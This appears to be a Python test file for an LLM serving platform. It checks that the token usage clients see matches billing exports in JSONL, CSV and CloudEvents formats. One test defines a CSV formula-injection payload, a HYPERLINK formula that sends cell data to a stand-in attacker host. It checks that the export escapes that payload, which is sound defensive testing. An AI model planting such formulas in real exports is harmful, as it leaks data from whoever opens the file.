"""What each client saw (usage objects, streamed include_usage counts) equals, request by
request and in total, what the billing export reports; rollups equal the events; every
export format parses and CloudEvents ids are stable across exports. SQLite and PostgreSQL."""
from __future__ import annotations

import csv
import io
import json

from loraplex.platform.tenancy.adapter_registry import add_adapter, open_store
from loraplex.platform.metering.usage import export_usage, usage_summary

from tests.e2e.usage_support import export_range, metered  # noqa: F401 - fixture

CE_REQUIRED = {"specversion", "id", "source", "type", "time", "subject"}
LONG = "The quick brown fox jumps over the lazy dog. " * 6  # > 2 KV blocks: prefix-cache hits on repeat


def _seen(r) -> tuple[str, tuple[int, int, int]]:
    u = r.usage
    cached = u.prompt_tokens_details.cached_tokens if u.prompt_tokens_details else 0
    return r.id, (u.prompt_tokens, u.completion_tokens, cached)


def _seen_stream(chunks) -> tuple[str, tuple[int, int, int]]:
    u = chunks[-1].usage
    cached = u.prompt_tokens_details.cached_tokens if u.prompt_tokens_details else 0
    assert {c.id for c in chunks} == {chunks[0].id}
    return chunks[0].id, (u.prompt_tokens, u.completion_tokens, cached)


def test_client_usage_equals_export(metered, tiny_adapters):  # noqa: F811
    m = metered
    adapter = f"recon-{m.backend}"
    info = add_adapter(m.db, open_store(m.settings), adapter, tiny_adapters["ad2"], public=True)
    name, key = m.tenant("recon", rpm=10_000, tpm=10**7, max_concurrency=50, token_budget=10**9)
    client = m.client(key)
    seen: dict[str, tuple[int, int, int]] = {}
    for i in range(3):
        seen.update([_seen(client.completions.create(model=m.model, prompt=f"Hello {i}", max_tokens=3 + i,
                                                     temperature=0))])
        seen.update([_seen(client.chat.completions.create(model=m.model, max_tokens=5,
                                                          messages=[{"role": "user", "content": f"Hi {i}"}]))])
        seen.update([_seen_stream(list(client.completions.create(
            model=m.model, prompt=f"Once {i}", max_tokens=4, stream=True, stream_options={"include_usage": True})))])
        seen.update([_seen_stream(list(client.chat.completions.create(
            model=m.model, messages=[{"role": "user", "content": f"Tell {i}"}], max_tokens=6, stream=True,
            stream_options={"include_usage": True})))])
    for _ in range(2):  # the second is a prefix-cache hit
        seen.update([_seen(client.completions.create(model=m.model, prompt=LONG, max_tokens=2))])
    seen.update([_seen(client.completions.create(model=adapter, prompt="SELECT", max_tokens=3))])
    per_adapter = m.client(key, base=f"/adapters/{adapter}/v1")
    seen.update([_seen(per_adapter.chat.completions.create(model="ignored", max_tokens=2,
                                                           messages=[{"role": "user", "content": "x"}]))])
    m.settle()
    assert len(seen) == 3 * 4 + 2 + 2
    assert any(v[2] > 0 for v in seen.values()), "no prefix-cache hit: cached tokens untested"

    start, end = export_range()

    def export(fmt: str, granularity: str = "event") -> bytes:
        return b"".join(export_usage(m.db, start, end, fmt=fmt, granularity=granularity, tenant=name,
                                     include_open=True))

    events = [json.loads(x) for x in export("jsonl").splitlines()]
    billed = {e["request_id"]: (e["prompt_tokens"], e["completion_tokens"], e["cached_tokens"]) for e in events}
    assert billed == seen  # request by request
    assert sum(map(sum, billed.values())) == sum(map(sum, seen.values()))  # and in total
    by_id = {e["request_id"]: e for e in events}
    assert all(e["status"] in ("stop", "length") and e["tenant"] == name and e["lane"] == "interactive"
               for e in events)
    used_adapter = [e for e in events if e["adapter"] == adapter]
    assert len(used_adapter) == 2 and {e["adapter_digest"] for e in used_adapter} == {info.digest}
    assert all(by_id[r]["first_token_at"] and by_id[r]["received_at"] <= by_id[r]["first_token_at"]
               <= by_id[r]["finished_at"] for r in by_id)

    # Rollups equal the events (total, per adapter version, per hour).
    total = usage_summary(m.db, start, end, tenant=name, granularity="total", by_adapter=False)
    assert len(total) == 1 and (total[0].requests, total[0].prompt_tokens, total[0].completion_tokens,
                                total[0].cached_tokens) == (len(events), sum(v[0] for v in seen.values()),
                                                            sum(v[1] for v in seen.values()),
                                                            sum(v[2] for v in seen.values()))
    per = {r.adapter: r.requests for r in usage_summary(m.db, start, end, tenant=name, granularity="total")}
    assert per == {None: len(events) - 2, adapter: 2}
    hours = usage_summary(m.db, start, end, tenant=name, granularity="hour")
    assert sum(r.total_tokens for r in hours) == sum(e["total_tokens"] for e in events)

    # Every format parses; CloudEvents carry the required attributes and stable ids.
    rows = list(csv.DictReader(io.StringIO(export("csv").decode())))
    assert {r["request_id"]: (int(r["prompt_tokens"]), int(r["completion_tokens"]), int(r["cached_tokens"]))
            for r in rows} == seen
    first, second = export("cloudevents"), export("cloudevents")
    assert first == second
    ces = [json.loads(x) for x in first.splitlines()]
    assert all(CE_REQUIRED <= set(c) and c["specversion"] == "1.0" and c["subject"] == name for c in ces)
    assert {c["id"] for c in ces} == set(seen)  # the id the client got is the event's id
    for granularity in ("hour", "day"):
        agg = [json.loads(x) for x in export("cloudevents", granularity).splitlines()]
        assert agg and all(CE_REQUIRED <= set(c) for c in agg)
        assert [c["id"] for c in agg] == [json.loads(x)["id"] for x in export("cloudevents", granularity).splitlines()]
        assert sum(c["data"]["total_tokens"] for c in agg) == sum(e["total_tokens"] for e in events)


def test_export_carries_the_request_id_the_client_sent(metered):  # noqa: F811
    """Billing joins a usage line to the request's log lines by the x-request-id."""
    m = metered
    name, key = m.tenant("corr", rpm=10_000, tpm=10**7)
    client = m.client(key)
    sent = f"billing-join-{m.backend}-1"
    mine = client.completions.create(model=m.model, prompt="Hello", max_tokens=2,
                                     extra_headers={"x-request-id": sent})
    made = client.completions.with_raw_response.create(model=m.model, prompt="Hi", max_tokens=2)
    m.settle()
    expected = {mine.id: sent, made.parse().id: made.headers["x-request-id"]}  # none sent: the gateway's own

    start, end = export_range()

    def export(fmt: str) -> bytes:
        return b"".join(export_usage(m.db, start, end, fmt=fmt, tenant=name))

    assert {e["request_id"]: e["correlation_id"] for e in map(json.loads, export("jsonl").splitlines())} == expected
    rows = csv.DictReader(io.StringIO(export("csv").decode()))
    assert {r["request_id"]: r["correlation_id"] for r in rows} == expected
    ces = map(json.loads, export("cloudevents").splitlines())
    assert {c["id"]: c["data"]["correlation_id"] for c in ces} == expected


FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)")


def test_csv_export_neutralises_formula_cells(metered, capsys):  # noqa: F811
    """A client-chosen x-request-id that a spreadsheet would run as a formula reaches the
    CSV export (library and CLI) as text; token counts stay numbers; JSON keeps it raw."""
    from tests.platform.fixtures import run_cli

    m = metered
    name, key = m.tenant("csvinj", rpm=10_000, tpm=10**7)
    client = m.client(key)
    ids = {client.completions.create(model=m.model, prompt="Hi", max_tokens=2,
                                     extra_headers={"x-request-id": sent}).id: sent for sent in FORMULAS}
    m.settle()
    start, end = export_range()
    jsonl = b"".join(export_usage(m.db, start, end, fmt="jsonl", tenant=name)).splitlines()
    assert {e["request_id"]: e["correlation_id"] for e in map(json.loads, jsonl)} == ids

    code, cli_csv, _ = run_cli(capsys, "usage", "export", "--from", start.isoformat(), "--to", end.isoformat(),
                               "--tenant", name, "--database-url", m.settings.database_url)
    assert code == 0
    for text in (b"".join(export_usage(m.db, start, end, fmt="csv", tenant=name)).decode(), cli_csv):
        rows = list(csv.DictReader(io.StringIO(text)))
        assert {r["request_id"]: r["correlation_id"] for r in rows} == {i: "'" + s for i, s in ids.items()}
        assert all(r["prompt_tokens"].isdigit() and r["total_tokens"].isdigit() for r in rows)
        assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for c in r.values())
